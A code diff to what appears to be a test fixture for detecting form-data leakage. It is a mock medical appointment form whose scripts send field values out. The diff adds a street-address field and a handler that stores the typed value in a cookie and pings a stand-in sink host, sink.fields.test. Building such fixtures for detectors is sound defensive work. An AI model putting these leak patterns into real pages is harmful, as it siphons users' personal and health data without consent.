@@ -14,6 +14,7 @@ export const oddFields: Readonly<Record<string, string>> = {
   opens: 'email',
   select: 'choice',
   radio: 'choice',
+  cookie: 'street',
 }
 
 /** What loggers of keys make of one field; all of them must be proof of its value. */
@@ -34,6 +35,7 @@ const document = `<!doctype html><html lang="en"><head><title>Request a visit</t
 <label>First name <input id="first" name="given-name"></label><div id="more"></div>
 <label>Phone <input id="part" type="tel" name="phone" oninput="if (this.value.length > 3) document.getElementById('first').focus()"></label>
 <label>Email <input id="opens" type="email" name="email-opens"></label>
+<label>Street <input id="jar" name="street"></label>
 <label>Reason <select name="reason"><option value="">Choose</option><option value="back-pain">Back pain</option></select></label>
 <label><input type="radio" name="insured" value="medicaid"> Medicaid</label><label><input type="radio" name="insured" value="private"> Private</label>
 <label>Last name <input id="logged" name="family-name"></label></form>
@@ -48,6 +50,7 @@ customElements.define('x-field', class extends HTMLElement { connectedCallback()
 var shown = 0, names = ['member-id', 'city']
 function next() { if (shown === 2) return; var i = document.createElement('input'), path = ['late', 'later'][shown]; i.name = names[shown++]; document.getElementById('more').append(i); i.addEventListener('change', function () { send(path, this.value); next() }) }
 on('first', 'change', next); on('part', 'change', function () { send('moved', this.value) })
+on('jar', 'change', function () { document.cookie = '_str=' + encodeURIComponent(this.value) + '; domain=fields.test; path=/'; new Image().src = 'https://sink.fields.test/cookie' })
 on('opens', 'input', function () { if (!this.once) { this.once = 1; window.open('/quiet') } }); on('opens', 'change', function () { send('opens', this.value) })
 document.querySelector('select').addEventListener('change', function () { send('select', new URLSearchParams({ reason: this.value })) })
 document.querySelector('[type=radio]').addEventListener('change', function () { send('radio', JSON.stringify({ form: { insured: this.value } })) })
